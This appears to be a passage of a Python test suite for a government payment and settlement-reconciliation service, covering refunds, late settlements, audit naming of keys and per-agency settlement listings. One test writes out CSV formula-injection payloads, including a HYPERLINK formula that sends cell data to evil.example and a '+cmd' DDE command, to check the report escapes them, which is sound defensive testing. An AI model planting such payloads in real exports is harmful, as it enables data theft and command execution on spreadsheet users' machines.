    r = await resolve(api, treasury, under["id"], "match_to_invoice", invoice_id=inv["id"])
    assert r.status == 200, await r.text()
    async with connect(api.dsn) as conn:
        assert await raise_overdue(conn, provider="sandbox", today=DAY + timedelta(days=3),
                                   rules=rules_of(api.client.app[SETTINGS]), now=datetime.now(UTC)) == 1
    [missing] = (await (await api.client.get("/v1/reconciliation/exceptions", headers=treasury,
                                             params={"reason": "missing_in_settlement"})).json())["data"]
    r = await resolve(api, treasury, missing["id"], "refund_due", note="the provider returned it to the payer")
    assert r.status == 200, await r.text()
    return inv


async def _pay_current_code(api, portal, inv: dict, txid: str, expect_amount: int) -> None:
    from paysvc import khqr

    code = await (await api.client.get(f"/v1/invoices/{inv['id']}/khqr", headers=portal)).json()
    assert khqr.decode(code["payload"]).amount == expect_amount
    r = await pay(api.client, {**inv, "khqr": code}, txid=txid, amount=expect_amount)
    assert (await r.json())["payments"][0]["exception"] is None


async def _late_line_matched(api, treasury, inv: dict) -> dict:
    """The provider settles TX-P after all (settled_after_resolution); treasury matches it to its invoice."""
    r = await upload(api, treasury, write_settlement_csv([line("TX-P", 400)]), day=DAY + timedelta(days=5))
    assert r.status == 201, await r.text()
    [late] = (await (await api.client.get("/v1/reconciliation/exceptions", headers=treasury,
                                          params={"reason": "settled_after_resolution"})).json())["data"]
    r = await resolve(api, treasury, late["id"], "match_to_invoice", invoice_id=inv["id"])
    assert r.status == 200, await r.text()
    return await r.json()


async def _revenue(dsn: str) -> int:
    async with connect(dsn) as conn:
        return await ledger.balance(conn, "agency:MOI:revenue:KHR")


async def test_refunding_a_part_payment_applied_to_an_open_invoice_makes_it_ask_for_that_part_again(
        api, portal, treasury, invoice_body):
    """Found by review: treasury applied an underpaid 400 to an invoice of 1,000 (its code then asked for 600);
    the provider never settled the 400 and returned it (refund_due of missing_in_settlement took it back out of
    the agency's revenue), but the invoice still counted it as paid: paying 600 then marked it paid with the
    agency holding 600. The refund now lowers the open invoice's amount_paid, and its next code asks for 1,000."""
    inv = await _part_paid_then_refunded(api, portal, treasury, invoice_body)
    got = await (await api.client.get(f"/v1/invoices/{inv['id']}", headers=portal)).json()
    assert (got["status"], got["amount_paid"]) == ("open", 0)
    await _pay_current_code(api, portal, inv, "TX-Q", 1000)
    assert await _revenue(api.dsn) == 1000  # the agency holds the whole fee once


async def test_a_refunded_part_settled_after_all_goes_back_into_the_invoice_that_asked_for_it_again(
        api, portal, treasury, invoice_body):
    """Found by review: after the refund had lowered the invoice's amount_paid, the provider settled the 400 after
    all and treasury matched it to the invoice: the revenue came back but amount_paid did not, so the invoice
    then asked for 1,000 and collected 1,400. The part goes back into amount_paid (the code asks for 600)."""
    inv = await _part_paid_then_refunded(api, portal, treasury, invoice_body)
    out = await _late_line_matched(api, treasury, inv)
    assert ("agency:MOI:revenue:KHR", "credit", 400) in [(p["account"], p["side"], p["amount"])
                                                         for p in out["postings"]]
    got = await (await api.client.get(f"/v1/invoices/{inv['id']}", headers=portal)).json()
    assert (got["status"], got["amount_paid"]) == ("open", 400)
    await _pay_current_code(api, portal, inv, "TX-Q", 600)
    assert await _revenue(api.dsn) == 1000
    assert await clearing(api.dsn) == 600  # the 600 is not settled yet; the 400 is


async def test_a_refunded_part_settled_after_the_invoice_was_paid_again_is_owed_back(
        api, portal, treasury, invoice_body):
    """As above, but the citizen paid the whole 1,000 again before the provider settled the 400: that 400 is owed
    back to the payer (suspense:refunds-due), not the agency's a second time."""
    inv = await _part_paid_then_refunded(api, portal, treasury, invoice_body)
    await _pay_current_code(api, portal, inv, "TX-Q", 1000)
    out = await _late_line_matched(api, treasury, inv)
    assert [(p["account"], p["amount"]) for p in out["postings"] if p["side"] == "credit"] == [
        ("suspense:refunds-due:KHR", 400)]
    assert await _revenue(api.dsn) == 1000


async def test_refunding_a_part_payment_applied_to_an_expired_invoice_lowers_its_amount_paid_too(
        api, portal, treasury, invoice_body):
    """Found by review: only open invoices were lowered, so an expired one kept counting the refunded 400, and a
    600 matched to it later marked it paid with the agency holding 600."""
    inv = await issued_before(api.dsn, await new_invoice(api, portal, invoice_body, amount=1000), AT)
    r = await pay(api.client, inv, txid="TX-P", amount=400, paid_at=AT)
    [under] = (await (await api.client.get("/v1/reconciliation/exceptions", headers=treasury,
                                           params={"reason": "underpaid"})).json())["data"]
    assert (await resolve(api, treasury, under["id"], "match_to_invoice", invoice_id=inv["id"])).status == 200
    async with connect(api.dsn) as conn:
        await conn.execute("UPDATE invoices SET status = 'expired', expired_at = now() WHERE id = $1", inv["id"])
    from paysvc.api_settlements import rules_of
    from paysvc.settlement_import import raise_overdue
    from paysvc.web import SETTINGS
    async with connect(api.dsn) as conn:
        await raise_overdue(conn, provider="sandbox", today=DAY + timedelta(days=3),
                            rules=rules_of(api.client.app[SETTINGS]), now=datetime.now(UTC))
    [missing] = (await (await api.client.get("/v1/reconciliation/exceptions", headers=treasury,
                                             params={"reason": "missing_in_settlement"})).json())["data"]
    assert (await resolve(api, treasury, missing["id"], "refund_due")).status == 200
    got = await (await api.client.get(f"/v1/invoices/{inv['id']}", headers=portal)).json()
    assert (got["status"], got["amount_paid"]) == ("expired", 0)


async def _refund_missing(api, treasury, txid: str) -> None:
    """The recheck raises the never-settled payment ``txid`` as missing; treasury books it returned (refund_due)."""
    from paysvc.api_settlements import rules_of
    from paysvc.settlement_import import raise_overdue
    from paysvc.web import SETTINGS

    async with connect(api.dsn) as conn:
        await raise_overdue(conn, provider="sandbox", today=DAY + timedelta(days=3),
                            rules=rules_of(api.client.app[SETTINGS]), now=datetime.now(UTC))
    missing = [x for x in (await (await api.client.get("/v1/reconciliation/exceptions", headers=treasury, params={
        "reason": "missing_in_settlement"})).json())["data"] if x["evidence"]["payment"]["provider_transaction_id"]
        == txid]
    r = await resolve(api, treasury, missing[0]["id"], "refund_due", note="the provider returned it")
    assert r.status == 200, await r.text()


async def _only_exception(api, treasury, reason: str) -> dict:
    [x] = (await (await api.client.get("/v1/reconciliation/exceptions", headers=treasury,
                                       params={"reason": reason, "state": "open"})).json())["data"]
    return x


async def test_a_refunded_part_goes_back_into_the_invoice_it_was_matched_to_not_the_payments_own(
        api, portal, treasury, invoice_body):
    """Found by review: invoice A (1,000) overpaid 1,400; the 400 matched to invoice B, which then asked for 600;
    the payment refunded (B lowered back to 0); the provider then settled it after all and treasury matched the
    line to A, the payment's own invoice. The revenue came back but B still asked for 1,000: 2,400 collected for
    2,000 of invoices. What the refund lowered is recorded, and exactly that is given back: B asks for 600."""
    a = await issued_before(api.dsn, await new_invoice(api, portal, invoice_body, amount=1000), AT)
    b = await new_invoice(api, portal, invoice_body, amount=1000)
    r = await pay(api.client, a, txid="TX-P", amount=1400, paid_at=AT)
    assert (await r.json())["payments"][0]["exception"] == "overpaid"
    over = await _only_exception(api, treasury, "overpaid")
    assert (await resolve(api, treasury, over["id"], "match_to_invoice", invoice_id=b["id"])).status == 200
    await _refund_missing(api, treasury, "TX-P")
    got = await (await api.client.get(f"/v1/invoices/{b['id']}", headers=portal)).json()
    assert (got["status"], got["amount_paid"]) == ("open", 0)
    r = await upload(api, treasury, write_settlement_csv([line("TX-P", 1400)]), day=DAY + timedelta(days=5))
    assert r.status == 201, await r.text()
    late = await _only_exception(api, treasury, "settled_after_resolution")
    assert (await resolve(api, treasury, late["id"], "match_to_invoice", invoice_id=a["id"])).status == 200
    got = await (await api.client.get(f"/v1/invoices/{b['id']}", headers=portal)).json()
    assert (got["status"], got["amount_paid"]) == ("open", 400)
    got_a = await (await api.client.get(f"/v1/invoices/{a['id']}", headers=portal)).json()
    assert (got_a["status"], got_a["amount_paid"]) == ("paid", 1000)
    await _pay_current_code(api, portal, b, "TX-B", 600)
    assert await _revenue(api.dsn) == 2000  # two invoices of 1,000, each collected once


async def test_a_refund_that_lowered_no_invoice_gives_its_revenue_back_as_taken(api, portal, treasury, invoice_body):
    """Found by review: invoice A expired; a payment on its code was held (invoice_expired) and matched to a
    reissued invoice B, which it paid; refunded (B, paid, not lowered); settled after all and matched to A, the
    payment's own invoice: A was marked paid too, with the agency holding 1,000 for two paid invoices. Nothing
    was lowered, so the revenue comes back as taken and A stays as it was."""
    a = await issued_before(api.dsn, await new_invoice(api, portal, invoice_body, amount=1000), AT)
    b = await new_invoice(api, portal, invoice_body, amount=1000)
    async with connect(api.dsn) as conn:
        await conn.execute("UPDATE invoices SET status = 'expired', expired_at = now() WHERE id = $1", a["id"])
    r = await pay(api.client, a, txid="TX-P", amount=1000, paid_at=AT)
    assert (await r.json())["payments"][0]["exception"] == "invoice_expired"
    held = await _only_exception(api, treasury, "invoice_expired")
    assert (await resolve(api, treasury, held["id"], "match_to_invoice", invoice_id=b["id"])).status == 200
    await _refund_missing(api, treasury, "TX-P")
    got_b = await (await api.client.get(f"/v1/invoices/{b['id']}", headers=portal)).json()
    assert (got_b["status"], got_b["amount_paid"]) == ("paid", 1000)  # a paid invoice is not reopened
    recorded = await count(api.dsn, "SELECT evidence -> 'invoices_lowered' FROM reconciliation_exceptions "
                                    "WHERE reason = 'missing_in_settlement'")
    assert json.loads(recorded) == []  # "lowered nothing" is recorded as such (found by review)
    r = await upload(api, treasury, write_settlement_csv([line("TX-P", 1000)]), day=DAY + timedelta(days=5))
    late = await _only_exception(api, treasury, "settled_after_resolution")
    assert (await resolve(api, treasury, late["id"], "match_to_invoice", invoice_id=a["id"])).status == 200
    got_a = await (await api.client.get(f"/v1/invoices/{a['id']}", headers=portal)).json()
    assert (got_a["status"], got_a["amount_paid"]) == ("expired", 0)
    assert await _revenue(api.dsn) == 1000


async def test_a_refunded_part_goes_back_only_as_far_as_the_invoice_still_owes_it(api, portal, treasury, invoice_body):
    """The refunded 400 comes back after treasury applied another 700 to the invoice (it owed 1,000 again after
    the refund): 300 goes back into it, the other 100 is owed back to the payer."""
    inv = await _part_paid_then_refunded(api, portal, treasury, invoice_body)
    r = await pay(api.client, inv, txid="TX-S", amount=700)
    second = [x for x in (await (await api.client.get("/v1/reconciliation/exceptions", headers=treasury, params={
        "reason": "underpaid", "state": "open"})).json())["data"]][0]
    assert (await resolve(api, treasury, second["id"], "match_to_invoice", invoice_id=inv["id"])).status == 200
    out = await _late_line_matched(api, treasury, inv)
    credits = {p["account"]: p["amount"] for p in out["postings"] if p["side"] == "credit"}
    assert credits == {"agency:MOI:revenue:KHR": 300, "suspense:refunds-due:KHR": 100}
    got = await (await api.client.get(f"/v1/invoices/{inv['id']}", headers=portal)).json()
    assert (got["status"], got["amount_paid"]) == ("paid", 1000)
    assert await _revenue(api.dsn) == 1000


async def test_the_csv_report_never_hands_a_spreadsheet_a_formula(api, portal, treasury, invoice_body):
    """Found by a security review: a file's texts reached treasury's spreadsheet as formulas."""
    import csv
    import io

    data = write_settlement_csv([line('=HYPERLINK("http://evil.example/?"&A1,"click")', 5000),
                                 line("+cmd|/c calc!A1", 6000, bill="@SUM(1+1)"), line("-2+3", 7000),
                                 line("TX-PLAIN", 8000)])
    rep = await (await upload(api, treasury, data)).json()
    r = await api.client.get(f"/v1/settlements/{rep['id']}/report.csv", headers=treasury)
    rows = list(csv.reader(io.StringIO(await r.text())))[1:]
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert [row[5] for row in rows if row[3] == "line"] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'+cmd|/c calc!A1", "'-2+3", "TX-PLAIN"]
    assert "'@SUM(1+1)" in cells


async def test_who_imported_and_who_resolved_names_the_key_not_only_its_name(api, portal, invoice_body):
    """Found by an auditor's walk-through: two keys could share the name "Treasury desk", and the records named
    only that. They name the key's id too, within the 100 characters they hold, however long the name."""
    long_name = "Treasury desk of the General Department of Budget, second floor, reconciliation team, Phnom Penh"
    keys = [await api.key(None, scopes=["treasury"], name=name) for name in ("Treasury desk", long_name)]
    await paid(api, portal, invoice_body, "TX-1")
    for key, txid in zip(keys, ("TX-1", "TX-9")):
        r = await upload(api, {"Authorization": f"Bearer {key}"},
                         write_settlement_csv([line(txid, 50000 if txid == "TX-1" else 7000)]))
        assert r.status == 201, await r.text()
        kid = key.split("_")[1]
        by = (await r.json())["imported_by"]
        assert by.endswith(f" (key {kid})") and len(by) <= 100 and by.startswith("Treasury desk")
    [exc] = (await (await api.client.get("/v1/reconciliation/exceptions", params={"state": "open"},
                                         headers={"Authorization": f"Bearer {keys[1]}"})).json())["data"]
    r = await resolve(api, {"Authorization": f"Bearer {keys[1]}"}, exc["id"], "refund_due")
    assert r.status == 200, await r.text()
    assert (await r.json())["resolved_by"] == long_name[:100 - 19] + f" (key {keys[1].split('_')[1]})"


async def test_a_line_that_settles_a_payment_held_for_treasury_names_its_exception(api, portal, treasury,
                                                                                invoice_body):
    """Found by an auditor's walk-through: the lines of payments paid short or for a cancelled invoice read
    "matched" with no exception, in the report and its CSV, though their money was still treasury's to resolve."""
    import csv
    import io

    await paid(api, portal, invoice_body, "TX-OK")
    short = await issued_before(api.dsn, await new_invoice(api, portal, invoice_body, amount=50000), AT)
    assert (await (await pay(api.client, short, txid="TX-SHORT", amount=20000, paid_at=AT)).json()
            )["payments"][0]["exception"] == "underpaid"
    r = await upload(api, treasury, write_settlement_csv([line("TX-OK", 50000), line("TX-SHORT", 20000),
                                                          line("TX-SHORT", 20000)]))     # listed twice
    assert r.status == 201, await r.text()
    rep = await r.json()
    by_txid = {ln["transaction_id"]: ln for ln in rep["lines"] if ln["category"] != "duplicate_in_settlement"}
    [again] = [ln for ln in rep["lines"] if ln["category"] == "duplicate_in_settlement"]
    assert again["payment_exception_id"] is None       # it settles nothing (found by review)
    underpaid = (await (await api.client.get("/v1/reconciliation/exceptions", headers=treasury,
                                             params={"reason": "underpaid"})).json())["data"][0]
    assert by_txid["TX-SHORT"]["category"] == "matched" and by_txid["TX-SHORT"]["exception_id"] is None
    assert (by_txid["TX-SHORT"]["payment_exception_id"], by_txid["TX-SHORT"]["payment_exception_state"],
            by_txid["TX-SHORT"]["payment_exception_reason"]) == (underpaid["id"], "open", "underpaid")
    assert by_txid["TX-OK"]["payment_exception_id"] is None
    text = await (await api.client.get(f"/v1/settlements/{rep['id']}/report.csv", headers=treasury)).text()
    rows = {r["transaction_id"]: r for r in csv.DictReader(io.StringIO(text))
            if r["record"] == "line" and r["category"] != "duplicate_in_settlement"}
    assert (rows["TX-SHORT"]["payment_exception_id"], rows["TX-SHORT"]["payment_exception_reason"]) == \
        (underpaid["id"], "underpaid")
    assert rows["TX-OK"]["payment_exception_id"] == ""


async def test_each_agency_reads_which_of_its_payments_a_settlement_settled(api, portal, treasury, invoice_body):
    # settlement.reconciled gave an agency only counts and totals: its back office could not tell which of its
    # invoices' money had arrived.
    mpwt = await api.portal("MPWT")
    moi1 = await paid(api, portal, invoice_body, "TX-M1")
    moi2 = await paid(api, portal, invoice_body, "TX-M2")
    mp = await paid(api, mpwt, invoice_body, "TX-P1", amount=20000)
    await paid(api, portal, invoice_body, "TX-M3")  # settled short: amount_mismatch, not counted as settled
    r = await upload(api, treasury, write_settlement_csv([
        line("TX-M1", 50000, fee=100), line("TX-P1", 20000, fee=40), line("TX-M3", 40000),
        line("TX-M2", 50000, fee=100), line("TX-NONE", 999)]))
    assert r.status == 201, await r.text()
    sid = (await r.json())["id"]

    async def settled(headers, **params):
        r = await api.client.get(f"/v1/settlements/{sid}/payments", params=params, headers=headers)
        return r.status, await r.json()

    status, body = await settled(portal)
    assert status == 200, body
    assert [(x["line_no"], x["provider_transaction_id"], x["invoice_id"], x["invoice_reference"], x["amount"],
             x["fee"], x["agency"]) for x in body["data"]] == [
        (2, "TX-M1", moi1["id"], moi1["reference"], 50000, 100, "MOI"),
        (5, "TX-M2", moi2["id"], moi2["reference"], 50000, 100, "MOI")]
    assert (body["provider"], body["business_date"], body["next_after_line"]) == ("sandbox", DAY.isoformat(), None)
    async with connect(api.dsn) as conn:  # what each agency's settlement.reconciled counts, payment by payment
        told = {r["code"]: r["data"] for r in await conn.fetch(
            "SELECT a.code, e.data FROM outbox_events e JOIN agencies a ON a.id = e.agency_id "
            "WHERE e.type = 'settlement.reconciled'")}
    assert (told["MOI"]["payments"], told["MOI"]["amount"]) == (2, 100000)
    status, body = await settled(mpwt)
    assert [x["invoice_id"] for x in body["data"]] == [mp["id"]] and told["MPWT"]["payments"] == 1
    status, body = await settled(treasury)  # every agency's, and a payment of none (no code of ours) too
    assert [(x["provider_transaction_id"], x["agency"], x["category"]) for x in body["data"]] == [
        ("TX-M1", "MOI", "matched"), ("TX-P1", "MPWT", "matched"), ("TX-M2", "MOI", "matched"),
        ("TX-NONE", None, "missing_in_ledger")]
    # paged by line
    status, first = await settled(portal, limit="1")
    assert [x["line_no"] for x in first["data"]] == [2] and first["next_after_line"] == 2
    status, rest = await settled(portal, limit="1", after_line=str(first["next_after_line"]))
    assert [x["line_no"] for x in rest["data"]] == [5] and rest["next_after_line"] is None
    assert (await settled(portal, limit="0"))[0] == 422
    status, body = await settled(portal, after_line="-1")
    assert status == 422 and body["errors"][0]["field"] == "after_line"
    r = await api.client.get("/v1/settlements/stl_nosuch/payments", headers=portal)
    assert r.status == 404
    spec = await (await api.client.get("/openapi.json")).json()  # documented as it answers
    ok = spec["paths"]["/v1/settlements/{id}/payments"]["get"]["responses"]["200"]["content"]["application/json"]
    name = ok["schema"]["$ref"].rsplit("/", 1)[1]
    item = spec["components"]["schemas"][name]["properties"]["data"]["items"]["$ref"].rsplit("/", 1)[1]
    assert set(spec["components"]["schemas"][item]["properties"]) == set(first["data"][0])
    writer = {"Authorization": f"Bearer {await api.key('MOI', scopes=['invoices:write'])}"}
    assert (await api.client.get(f"/v1/settlements/{sid}/payments", headers=writer)).status == 403
